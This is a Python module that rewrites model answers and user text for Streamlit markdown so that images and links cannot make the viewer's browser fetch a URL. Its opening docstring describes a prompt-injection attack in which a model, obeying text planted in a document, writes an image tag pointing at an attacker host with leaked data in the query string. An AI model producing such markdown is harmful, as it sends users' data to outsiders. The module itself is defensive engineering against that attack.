"""Model and user text made safe for Streamlit markdown: nothing in it makes the browser fetch.

Streamlit's markdown renders `![alt](url)` (and reference images, and images in expander
labels and tooltips) as `<img>`: the viewer's browser requests the URL, so a model that
obeys text planted in a document could write `![s](http://attacker/?leak=…)` and every
viewer of the answer, a restored thread or a share link would send it. Raw HTML and
`javascript:` links are already inert (Streamlit shows HTML as text).

- `safe_markdown(text)`: a model's answer. Markdown is kept (bold, lists, tables, code,
  `[n]` citations) except that an image becomes visible text, `[image: alt — url not
  loaded]`, and a link becomes its text followed by its address as code, `text (url)`, so
  no address hides behind words (a bare URL stays as written: what it shows is where it goes).
- `plain_markdown(text)`: a question or a title, shown as typed (no markdown at all).
- `esc(text)`, `code_span(text)`: one line shown literally, as text or as code.

How `safe_markdown` stays safe without a full markdown renderer of its own: an image needs
the characters `![` next to each other in the source, so the output has none outside code
blocks. Code blocks are kept as written (a `![x](y)` there is shown, not loaded); where they
are is decided by a CommonMark parser (markdown-it, installed with rich), and the output is
parsed again and checked; should a `![` be left outside a code block, every `![` in the
text is broken with an invisible zero-width space instead. The constructs Streamlit's
renderer adds to CommonMark that could swallow a code fence (`$$` math, `:::` directives,
`[^n]:` footnotes, HTML blocks) are escaped where a line starts, so both parsers see the
same blocks.
"""

from __future__ import annotations

import bisect
import re
from typing import Any

from markdown_it import MarkdownIt

_MD_SPECIAL = re.compile(r"([\\`*_{}\[\]<>#|~$])")
ZWSP = "\u200b"


def esc(text: Any) -> str:
    """Text shown literally inside Streamlit markdown (no emphasis, links, math), on one line."""
    return _MD_SPECIAL.sub(r"\\\1", " ".join(str(text).split()))


# A list marker or `=`/`-`/`+` line would make a question a list, a rule or a heading.
_LINE_BLOCK_START = re.compile(r"^(\d{1,9})([.)])|^([-+=])")


def plain_markdown(text: Any) -> str:
    """Untrusted user text (a question, a title) shown as typed: no images, links,
    emphasis or math; its line breaks are kept."""
    lines = []
    for line in str(text).replace("\r\n", "\n").replace("\r", "\n").split("\n"):
        shown = _LINE_BLOCK_START.sub(lambda m: f"{m[1]}\\{m[2]}" if m[1] else f"\\{m[3]}", esc(line))
        lines.append(shown)
    # Two trailing spaces: a hard line break (a blank line still ends the paragraph).
    return "  \n".join(lines)


def code_span(text: Any) -> str:
    """`text` as inline code: a fence longer than any backtick run inside, so it can't end early."""
    flat = " ".join(str(text).split()).replace("![", "!" + ZWSP + "[")
    longest = max((len(run) for run in re.findall(r"`+", flat)), default=0)
    fence = "`" * (longest + 1)
    pad = " " if flat.startswith("`") or flat.endswith("`") or not flat else ""
    return f"{fence}{pad}{flat}{pad}{fence}"


# ----------------------------------------------------------------------------- answers

_PARSER = MarkdownIt("commonmark").enable("table")

# Where a line starts (after blockquote markers, list markers and indentation): an HTML
# block, a link or footnote definition, a `$$` math block, a `:::` directive container.
_LINE_START = re.compile(
    r"^((?:[ \t]*(?:>|[-+*][ \t]|\d{1,9}[.)][ \t]))*[ \t]*)(?=<|\[|\$\$|:::)", re.MULTILINE
)


# Without these there is no code block to find (the answer streams in token by token, so
# the parser is skipped when it can't find anything).
_MAY_HOLD_CODE = re.compile(r"```|~~~|^(?: {4}|[ ]{0,3}\t)", re.MULTILINE)


def _code_lines(text: str) -> set[int]:
    """Line numbers (0-based) inside fenced or indented code blocks, at any nesting."""
    if not _MAY_HOLD_CODE.search(text):
        return set()
    lines: set[int] = set()
    for token in _PARSER.parse(text):
        if token.type in ("fence", "code_block") and token.map:
            lines.update(range(*token.map))
    return lines


_BACKTICKS = re.compile(r"`+")


class _Paragraph:
    """One paragraph's code spans and bracket pairs, found in one pass each (linear time
    however many unmatched `[` or backticks a hostile answer holds)."""

    def __init__(self, text: str) -> None:
        self.text = text
        self.runs: dict[int, list[int]] = {}  # backtick run length -> run starts, in order
        for match in _BACKTICKS.finditer(text):
            self.runs.setdefault(len(match.group(0)), []).append(match.start())
        self.closing: dict[int, int] = {}  # `[` position -> its `]`
        stack: list[int] = []
        i = 0
        while i < len(text):
            ch = text[i]
            if ch == "\\":
                i += 2
                continue
            if ch == "`":
                i = self.code_end(i) or i + len(self.run(i))
                continue
            if ch == "[":
                stack.append(i)
            elif ch == "]" and stack:
                self.closing[stack.pop()] = i
            i += 1

    def run(self, i: int) -> str:
        match = _BACKTICKS.match(self.text, i)
        return match.group(0) if match else ""

    def code_end(self, i: int) -> int | None:
        """End (exclusive) of the code span opened by the backtick run at `i`: the next run
        of exactly as many backticks (CommonMark); None if there is none."""
        size = len(self.run(i))
        starts = self.runs.get(size, [])
        k = bisect.bisect_left(starts, i + size)
        return starts[k] + size if k < len(starts) else None


_DESTINATION = re.compile(
    r"""\(\s*(<[^<>\n]*>|(?:[^\s()\\]|\\.|\((?:[^\s()\\]|\\.)*\))*)"""  # the address
    r"""(?:\s+("(?:[^"\\]|\\.)*"|'(?:[^'\\]|\\.)*'|\((?:[^()\\]|\\.)*\)))?\s*\)""",  # a title
    re.DOTALL,
)
_REFERENCE = re.compile(r"\[((?:[^\[\]\\]|\\.){0,999})\]", re.DOTALL)


def _target(text: str, after: int, inner: str, definitions: dict[str, str]) -> tuple[str, int] | None:
    """The address right after a link's or image's `]` (at `after`): `(url "title")`, or a
    defined `[ref]`, `[]`, or the text itself as the label; returns it and where the
    construct ends. An undefined reference is no link: `[1][2]` are two citations."""
    if match := _DESTINATION.match(text, after):
        return match.group(1).strip("<>"), match.end()
    if match := _REFERENCE.match(text, after):
        label = _label(match.group(1)) or _label(inner)
        return (definitions[label], match.end()) if label in definitions else None
    if _label(inner) in definitions and not text.startswith(":", after):  # `[ref]: url` defines
        return definitions[_label(inner)], after
    return None


def _label(raw: str) -> str:
    return " ".join(raw.split()).casefold()


_DEFINITION = re.compile(r"^[ >\t]*\[((?:[^\[\]\\]|\\.){1,999})\]:[ \t]*\n?[ \t]*<?([^\s>]+)", re.MULTILINE)


def _inline(text: str, definitions: dict[str, str]) -> str:
    """One paragraph's images and links rewritten as visible text, left to right as
    CommonMark reads them."""
    para = _Paragraph(text)
    out: list[str] = []
    links: list[tuple[int, str, int]] = []  # open links: where their text ends, address, end
    i = 0
    while i < len(text):
        while links and links[-1][0] < i:  # a construct inside ran past the link's `]`
            links.pop()
        if links and links[-1][0] == i:
            _, url, end = links.pop()
            out.append(f" ({code_span(url)})")
            i = end
            continue
        ch = text[i]
        if ch == "\\":
            out.append(text[i : i + 2])
            i += 2
            continue
        if ch == "`":
            end = para.code_end(i)
            if end is not None:
                # Code shows `![x](y)` as text; the zero-width space keeps it text even for
                # a renderer that disagrees about where the code span is.
                out.append(text[i:end].replace("![", "!" + ZWSP + "["))
                i = end
                continue
            run = para.run(i)
            out.append(run)
            i += len(run)
            continue
        image = text.startswith("![", i)
        if image or ch == "[":
            opening = i + 1 if image else i
            close = para.closing.get(opening)
            target = None
            if close is not None:
                target = _target(text, close + 1, text[opening + 1 : close], definitions)
            if target is not None and image:
                alt = esc(text[opening + 1 : close]) or "no description"
                out.append(f"\\[image: {alt} — {code_span(target[0])} not loaded\\]")
                i = target[1]
                continue
            if target is not None and close is not None:
                links.append((close, target[0], target[1]))  # its text is read on, as text
                i += 1
                continue
            if image:
                out.append("!\\[")  # not an image here; escaped so it can't become one
                i += 2
                continue
        out.append(ch)
        i += 1
    return "".join(out)


_PARAGRAPH_BREAK = re.compile(r"(\n[ \t]*\n)")


def _sanitise_text(text: str, definitions: dict[str, str]) -> str:
    # Nothing inline spans a blank line: each paragraph is read on its own.
    parts = _PARAGRAPH_BREAK.split(text)
    text = "".join(part if n % 2 else _inline(part, definitions) for n, part in enumerate(parts))
    text = _LINE_START.sub(lambda m: m.group(1) + "\\", text)
    return text.replace("![", "!\\[")  # anything the rewrite above did not take


def _stray_images(text: str) -> bool:
    """Whether `![` is left anywhere a CommonMark parser does not see code."""
    if "![" not in text:
        return False
    code = _code_lines(text)
    return any("![" in line for n, line in enumerate(text.split("\n")) if n not in code)


def safe_markdown(text: Any) -> str:
    """A model's answer as markdown that shows every image and link address as text."""
    source = str(text or "").replace("\r\n", "\n").replace("\r", "\n").replace("\0", "\ufffd")
    definitions = {_label(m.group(1)): m.group(2) for m in _DEFINITION.finditer(source)}
    lines = source.split("\n")
    code = _code_lines(source)
    parts: list[str] = []
    prose: list[str] = []
    for n, line in enumerate(lines):
        if n in code:
            if prose:
                parts.append(_sanitise_text("\n".join(prose), definitions))
                prose = []
            parts.append(line)
        else:
            prose.append(line)
    if prose:
        parts.append(_sanitise_text("\n".join(prose), definitions))
    result = "\n".join(parts)
    if _stray_images(result):
        # The escapes changed the blocks around a code block: break every `![` instead.
        result = result.replace("![", "!" + ZWSP + "[")
    return result
